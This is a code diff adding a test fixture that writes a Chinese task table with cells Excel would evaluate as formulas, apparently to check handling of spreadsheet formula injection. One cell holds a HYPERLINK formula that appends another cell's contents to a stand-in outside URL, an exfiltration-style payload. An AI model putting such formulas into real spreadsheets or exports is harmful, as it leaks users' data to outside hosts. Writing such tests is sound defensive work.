@@ -157,6 +157,15 @@ def text_over_task_limit(folder: Path) -> None:
         stream.write(head + "".join(f"{n}\t{rows}" for n in range(1, 20_002)))
 
 
+@case
+def csv_formula_cells(folder: Path) -> None:
+    """A task text and a unit that Excel would run as formulas."""
+    (folder / "table.txt").write_text(
+        "一、王一副区长牵头重点工作\n序号\t重点工作\t责任单位\n"
+        '1\t=HYPERLINK("http://example.org/"&A1,"点击查看")\t*=1+2、区民政局\n'
+        "2\t-5%以内的能耗下降。\t*区民政局\n", encoding="utf-8")
+
+
 def make(name: str, folder: Path) -> None:
     """Write case NAME's files into FOLDER."""
     MAKERS[name](folder)
